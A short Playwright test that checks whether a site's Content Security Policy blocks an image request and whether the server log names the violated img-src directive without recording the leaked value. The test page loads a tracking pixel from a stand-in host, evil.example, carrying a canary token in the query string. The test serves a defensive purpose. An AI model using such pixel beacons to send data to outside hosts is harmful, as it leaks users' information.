import { expect, test } from "@playwright/test";
import { startServer } from "#tests/support/running-server.ts";

test("what a page was kept from is reported by the browser, and the log names it", async ({ page }) => {
  await using server = await startServer();
  await page.goto(`http://127.0.0.1:${server.port}/`);
  await page.evaluate(() => {
    new Image().src = "https://evil.example/pixel?who=zq7canary";
  });
  const named = () => server.logged.filter((line) => line.includes("policy violated"));
  await expect
    .poll(named)
    .toContainEqual(expect.stringContaining(`"directive":"img-src","blocked":"https://evil.example"`));
  expect(server.logged.join()).not.toContain("zq7canary");
});
